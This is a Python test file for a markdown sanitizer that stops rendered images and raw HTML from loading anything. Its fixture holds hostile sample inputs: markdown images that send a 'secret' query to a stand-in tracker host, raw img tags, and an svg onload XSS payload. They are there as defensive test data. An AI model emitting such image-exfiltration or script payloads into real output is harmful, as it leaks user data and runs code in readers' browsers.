"""Markdown drawn from questions and replies loads nothing: rendered by a real CommonMark parser
(markdown-it-py, with raw HTML allowed as the most permissive viewer would), no <img> or other tag
of the text survives, and what the text says is still there."""

import html as entities
import re

from markdown_it import MarkdownIt

from core.markup import ZERO_WIDTH_SPACE, safe_markdown, safe_stream

LEAKY = """Here is the chart: ![chart](https://tracker.example/p.png?q=secret)
A reference ![logo][ref] and a shortcut ![ref] and a collapsed ![ref][].
Linked: [![badge](https://tracker.example/b.svg)](https://example.org)
Escaped backslash then image: \\\\![x](https://tracker.example/x.png)
<img src="https://tracker.example/i.png"> and <svg onload="alert(1)"></svg> <IMG SRC=x>
| a | b |
|---|---|
| `x | ![t](https://tracker.example/t.png)` |

[ref]: https://tracker.example/ref.png
"""


def render(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def visible(html: str) -> str:
    """The text a reader sees in rendered HTML."""
    return entities.unescape(re.sub(r"<[^>]+>", "", html)).replace(ZERO_WIDTH_SPACE, "")


def test_images_and_raw_html_load_nothing_and_still_read_the_same():
    assert "<img" in render(LEAKY) and "<svg" in render(LEAKY)  # the attack works without it
    html = render(safe_markdown(LEAKY))
    assert "<img" not in html.lower() and "<svg" not in html
    assert set(re.findall(r"<(\w+)", html)) <= {"p", "a", "table", "thead", "tbody", "tr", "th", "td", "code", "br"}
    assert 'href="https://tracker.example/p.png?q=secret">chart</a>' in html  # a link, shown, not fetched
    assert '<img src="https://tracker.example/i.png"> and <svg onload="alert(1)"></svg> <IMG SRC=x>' in visible(html)


def test_code_blocks_and_plain_text_are_left_alone():
    code = "Rust:\n\n```rust\nlet v = vec![1, 2];\nlet s = \"<img>\";\n```\n\n~~~\n![x](y)\n~~~\nDone!"
    assert safe_markdown(code) == code
    assert safe_markdown("2 < 3 and 5! = 120, [ok](x)") == "2 < 3 and 5! = 120, [ok](x)"
    assert visible(render(safe_markdown("a<b and c"))) == "a<b and c\n"
    unclosed = "```\n![x](https://tracker.example/x.png)"  # code to the end, as CommonMark reads it
    assert "<img" not in render(safe_markdown(unclosed))


def test_a_fence_that_is_not_one_does_not_hide_an_image():
    for text in ("```js`\n![x](https://t.example/x.png)\n```", "    ```\n![x](https://t.example/x.png)\n```"):
        assert "<img" not in render(safe_markdown(text)), text


def test_a_stream_is_safe_whatever_its_chunks():
    for size in (1, 2, 3, 7):
        chunks = [LEAKY[i:i + size] for i in range(0, len(LEAKY), size)]
        written = "".join(safe_stream(chunks))
        assert "<img" not in render(written).lower() and "<svg" not in render(written)
        assert written.replace(ZERO_WIDTH_SPACE, "") == LEAKY
